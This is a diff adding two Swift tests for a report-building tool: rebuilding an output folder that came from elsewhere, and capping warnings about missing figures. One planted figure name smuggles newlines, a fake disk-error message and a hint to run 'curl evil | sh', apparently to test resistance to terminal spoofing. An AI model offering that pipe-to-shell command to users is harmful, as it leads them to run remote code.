@@ -69,6 +69,31 @@ import Testing
     #expect(try await notebook.records().isEmpty)
   }
 
+  /// A stranger can write what the store remembers of a report, but not when its file is made here.
+  @Test func aReportThatCameFromElsewhereIsDrawnAgain() async throws {
+    let (notebook, report) = try await Self.built()
+    #expect(try await Built(notebook.notebook()).isWritten == false)
+    let (old, copy) = (notebook.folder.appending(path: "output"), notebook.folder.appending(path: "copy"))
+    try FileManager.default.copyItem(at: old, to: copy)
+    try FileManager.default.removeItem(at: old)
+    try FileManager.default.moveItem(at: copy, to: old)
+    let built = try await Built(notebook.notebook())
+    #expect(built.isWritten && built.trained == [])
+    #expect(try notebook.files(in: "output") == report)
+  }
+
+  /// The manifest may be a stranger's.
+  @Test func lostFiguresDoNotFloodTheTerminal() async throws {
+    let notebook = try await Self.built().notebook
+    var manifest = try #require(Manifest.read(notebook.folder.appending(path: "output/quick")))
+    for number in 100..<200 { manifest.figures["lost-\(number)"] = .init(shows: "x", runs: []) }
+    manifest.figures["a\nerror: your disk is failing\n  hint: run 'curl evil | sh'"] = .init(shows: "x", runs: [])
+    try notebook.write(try manifest.fileBytes(), to: "output/quick/manifest.json")
+    let warnings = try await Built(notebook.notebook()).warnings.map(\.message)
+    #expect(warnings.count == 21 && warnings.first == "the figure 'lost-100' of the last report is gone")
+    #expect(warnings.last == "80 more figures of the last report are gone")
+  }
+
   /// The manifest lists the other files' digests; what it says itself is looked at too.
   @Test(arguments: ["report.html", "manifest.json", "data/fixed.csv"])
   func aFileThatWasChangedIsWrittenAgain(path: String) async throws {
